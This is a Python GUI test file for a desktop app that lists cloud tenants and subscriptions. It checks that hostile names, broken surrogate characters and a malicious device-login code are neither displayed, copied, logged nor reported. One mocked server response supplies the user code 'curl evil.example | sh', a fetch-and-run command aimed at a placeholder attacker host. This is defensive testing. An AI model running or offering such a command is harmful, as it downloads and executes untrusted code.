"""Names made to harm, in the real window, from the real clients, over TLS."""

from __future__ import annotations

import logging
import threading
from datetime import UTC, datetime
from pathlib import Path

import pytest

from desktop.demo.http_messages import Request, Response, json_response
from desktop.domain import columns
from desktop.domain import events as ev
from desktop.domain.models import Account, Method, SignInRequest, Subscription, Tenant
from desktop.domain.state import Phase
from desktop.features.reports.model import report
from desktop.log_file import LogFile
from tests.support import hostile
from tests.support.display import Display
from tests.ui.hand import Stage
from tests.ui.live import live

pytestmark = pytest.mark.gui


def test_they_are_shown_copied_logged_and_reported_without_harm(
    display: Display, tmp_path: Path
) -> None:
    level, log = logging.getLogger("desktop").level, LogFile("debug", tmp_path / "azimuth.log")
    try:
        with live(display, sample=hostile.sample()) as stage:
            stage.sign_in(hostile.MALLORY)
            named = {hostile.made_id(f"{kind} {name}"): hostile.shown(name)
                     for kind in ("tenant", "subscription") for name in hostile.NAMES}  # fmt: skip
            tree = stage.window.centre.access.table.tree
            seen = {}
            for key in (k for top in tree.get_children() for k in (top, *tree.get_children(top))):
                seen[stage.said(key, "id")] = stage.said(key)
                for column in (each.key for each in columns.in_window()):
                    assert not hostile.HARMFUL.search(stage.said(key, column))
            domains = {t.tenant.tenant_id: t.tenant.default_domain
                       for t in stage.state.tenants.values()}  # fmt: skip
            assert seen == {
                an_id: name or domains.get(an_id, an_id) for an_id, name in named.items()
            }

            tree.selection_set(tree.get_children(tree.get_children()[0])[0])
            stage.turn(0.05)
            for text in stage.texts():  # the details, with tags
                assert not hostile.HARMFUL.search(text)
            tree.focus_set()
            stage.press("ctrl+a", "ctrl+shift+c")
            stage.wait(lambda: "Contoso" in stage.clipboard(), "the rows on the clipboard")
            assert not hostile.HARMFUL.search(stage.clipboard().replace("\r\n", "\n"))

            for end in report.FORMATS:
                written = report.render(stage.state, f"r{end}", datetime.now(UTC)).decode(
                    "utf-8-sig"
                )
                assert not hostile.HARMFUL.search(written.replace("\r\n", "\n"))
                assert "Contoso" in written
    finally:
        log.close()
        logging.getLogger("desktop").setLevel(level)
    kept = (tmp_path / "azimuth.log").read_text("utf-8")
    assert "Contoso" in kept
    assert not hostile.HARMFUL.search(kept)
    records = [line for line in kept.split("\n") if line.startswith("2026-11-28 00:00:00,000")]
    assert records == []


def test_a_row_that_was_not_cleaned_ends_nothing(stage: Stage) -> None:
    """The last line of defence: rows are handed to Tk as lists, in which half a pair kills."""
    half = Subscription("s", "\udfff", "\ud800", "t", tags={"\ud8ff": "\udcff"})
    stage.tell(
        ev.SignInStarted(Method.BROWSER),
        ev.SignedIn(Account("a@b.example", "another"), 1.0),
        ev.ListingStarted(),
        ev.TenantsFound((Tenant("t", "Half \ud800", "\udc00.example"),)),
        ev.SubscriptionsFound("t", (half,)),
        ev.TenantListed("t", 0.1),
        ev.ListingFinished(0.1, 0.1),
    )  # fmt: skip
    stage.settle()
    assert stage.rows() == [(0, "Half \N{REPLACEMENT CHARACTER}"), (1, "\N{REPLACEMENT CHARACTER}")]


@pytest.mark.parametrize("again", [False, True])
def test_a_code_that_is_not_to_be_used_is_neither_shown_nor_copied(
    display: Display, again: bool
) -> None:
    """At the first sign-in, and where a new code is asked for while the first is on show."""
    evil = threading.Event()
    if not again:
        evil.set()

    def answer(request: Request) -> Response | None:
        if not (request.path.endswith("/devicecode") and evil.is_set()):
            return None
        return json_response(
            {"user_code": "curl evil.example | sh\n", "device_code": "d", "expires_in": 900,
             "interval": 1, "verification_uri": "https://login.microsoft.com/device"}
        )  # fmt: skip

    with live(display, before=answer) as stage:
        stage.root.clipboard_clear()
        stage.root.clipboard_append("what was there")
        if again:
            stage.person.act = lambda user_code: None  # type: ignore[method-assign]
            stage.flow.sign_in(SignInRequest(Method.DEVICE_CODE))
            stage.wait(lambda: stage.state.device_code, "the first code")
            evil.set()
            stage.flow.new_device_code()
        else:
            stage.flow.sign_in(SignInRequest(Method.DEVICE_CODE))
        stage.wait(lambda: stage.state.phase is Phase.SIGN_IN_FAILED, "the failure", 30)
        stage.turn(0.2)
        assert stage.state.problem is not None
        assert stage.state.problem.kind == "code-refused"
        assert stage.state.device_code is None
        assert not [text for text in stage.texts() if "curl" in text]
        assert any("not safe to use" in text for text in stage.texts())
        assert stage.root.clipboard_get() == "what was there"
